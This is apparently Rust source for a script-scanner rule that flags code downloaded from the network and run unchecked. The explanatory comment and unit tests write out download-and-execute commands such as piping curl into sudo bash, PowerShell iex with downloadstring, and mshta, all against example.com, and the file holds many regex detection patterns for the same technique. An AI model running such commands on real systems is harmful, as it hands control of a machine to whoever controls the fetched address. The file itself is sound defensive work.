//! **What.** Code is fetched from the network and run at once, without being looked at.
//!
//! **Why.** Whoever controls the address, or the way to it, controls the machine. Nothing is left that could be checked afterwards.
//!
//! **Bad.** `iex (iwr https://example.com/fix.ps1)`, `curl https://example.com/fix.sh | sudo sh`
//!
//! **Better.** Download to a file, compare its signature or checksum with one from elsewhere, read it, then run it.
//!
//! **Source.** MITRE ATT&CK T1059.001, T1059.004, T1105; PSScriptAnalyzer AvoidUsingInvokeExpression.

use std::ops::Range;

use super::{Rule, Severity};
use crate::command::{Command, Script};
use crate::knowledge::Style;

pub(super) static RULE: Rule = Rule {
    name: "exec.download-execute",
    severity: Severity::Critical,
    attack: &["T1059.001", "T1059.004", "T1105"],
    attack_before: &[],
    analyzer: &["AvoidUsingInvokeExpression"],
    reason: "it fetches code from the network and runs it unseen",
    better: "download to a file, compare its signature or checksum, read it, and only then run it",
    calls: &[
        (Style::Windows, "mshta: ~http ; ~javascript: ~script ; ~vbscript: ; ~.hta ; ~.sct ; ~about:"),
        (Style::Cmdlet, "invoke-expression: ~webclient ; ~downloadstring ; ~invoke-webrequest ; ~iwr ; ~irm ; ~http"),
    ],
    words: &[
        r"\b(iex|invoke-expression)\b[^\r\n]*(downloadstring|downloaddata|downloadfile|net\.webclient|webrequest|\biwr\b|\birm\b|restmethod|https?://|openread|winhttp|xmlhttp|\bcurl\b|\bwget\b)",
        r"(downloadstring|downloaddata|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|webclient|\bcurl\b|\bwget\b)[^\r\n]*\|\s*(\.|&)?\s*\(?(iex|invoke-expression)\b",
        r"\.\s*downloadstring\s*\(",
        r"invoke-expression\s*\$\w+[^\r\n]*\bcontent\b",
        r"\b(bash|sh|zsh|ksh|dash|source|eval|python[23]?|perl|ruby|php|\.)\s+(-c\s+|-s\s+)?[\x22']?(<\(|\$\(|`)\s*(curl|wget|fetch)\b",
        r"\b(curl|wget|fetch|lwp-download)\b[^\n|]*\|\s*(sudo\s+(-\S+\s+)*)?(/\S*/)?(ba|z|k|da|c|tc|a)?sh\b",
        r"\b(curl|wget|fetch)\b[^\n|]*\|\s*(sudo\s+)?(python[23]?|perl|ruby|node|php|osascript)\b",
        r"\[(system\.)?reflection\.assembly\]::load\b",
        r"(msxml2|microsoft)\.(server)?xmlhttp|winhttp\.winhttprequest",
        r"urllib[^\n]*(exec|eval)\s*\(|(exec|eval)\s*\([^\n]*(urllib|urlopen|requests\.get)",
    ],
    about_change: false,
    check: Some(fetched_and_run),
};

const FETCH: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "bitsadmin",
    "certutil",
    "aria2c",
];
const RUN: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "invoke-expression",
    "powershell",
    "pwsh",
    "cmd",
    "source",
    ".",
    "cscript",
    "wscript",
    "msiexec",
    "rundll32",
    "regsvr32",
];

/// A pipeline from a download into an interpreter, and a file that is downloaded and then run.
fn fetched_and_run(script: &Script) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for (at, command) in script.commands.iter().enumerate() {
        if !FETCH.contains(&command.name.as_str()) || !command.line().contains("://") {
            continue;
        }
        for later in script.commands.iter().skip(at + 1) {
            let piped = later.pipeline == command.pipeline && later.shell == command.shell;
            if piped && RUN.contains(&later.name.as_str()) || files(command).any(|file| runs(later, file)) {
                found.push(command.span.start.min(later.span.start)..command.span.end.max(later.span.end));
            }
        }
    }
    found
}

/// The names of files that a download may leave: the last parts of its arguments that look like programs and scripts.
fn files(command: &Command) -> impl Iterator<Item = &str> {
    const PROGRAMS: &[&str] = &[
        ".ps1", ".psm1", ".sh", ".bat", ".cmd", ".vbs", ".js", ".hta", ".py", ".pl", ".dll", ".sct", ".elf", ".bin",
        ".scr",
    ];
    command
        .arguments
        .iter()
        .filter_map(|argument| argument.text.rsplit(['/', '\\']).next())
        .filter(|file| PROGRAMS.iter().any(|end| file.to_ascii_lowercase().ends_with(end)))
}

fn runs(command: &Command, file: &str) -> bool {
    let file = file.to_ascii_lowercase();
    let named = command.written.to_ascii_lowercase().ends_with(&file);
    let given = RUN.contains(&command.name.as_str())
        || matches!(command.name.as_str(), "start-process" | "import-module" | "chmod" | "start");
    named || given && command.arguments.iter().any(|argument| argument.text.to_ascii_lowercase().ends_with(&file))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::cases::holds;

    #[test]
    fn what_is_fetched_and_run_is_found() {
        holds(
            &RULE,
            &[
                ("powershell", "IEX (iwr 'https://example.com/a.ps1' -UseBasicParsing)"),
                ("powershell", "iex(new-object net.webclient).downloadstring('http://example.com/a')"),
                ("powershell", "irm https://example.com/a | iex"),
                ("bash", "curl -fsSL https://example.com/install.sh | sudo bash"),
                ("bash", "bash <(curl -s https://example.com/a)"),
                ("bash", "wget https://example.com/x.sh; chmod +x x.sh; ./x.sh"),
                ("cmd", "mshta https://example.com/a.hta"),
            ],
            &[
                ("powershell", "Invoke-WebRequest https://example.com -UseBasicParsing"),
                ("bash", "curl -Iv https://example.com"),
                ("bash", "curl -s https://example.com/list.json | jq ."),
            ],
        );
    }
}
